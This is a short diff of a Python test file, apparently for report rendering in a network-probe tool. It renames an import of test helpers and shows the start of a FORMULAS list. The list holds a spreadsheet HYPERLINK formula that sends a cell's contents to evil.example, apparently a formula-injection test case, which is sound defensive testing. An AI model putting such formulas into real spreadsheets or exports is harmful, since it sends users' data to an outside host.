@@ -28,7 +28,7 @@ from analysis.report.page import render_html
 from probe.model import HttpTransaction, Layer
 from probe.records import Confidence, Status, Verdict
 from probe.store import Store
-from tests.test_store import make_measurement, make_run
+from tests.store_rows import make_measurement, make_run
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
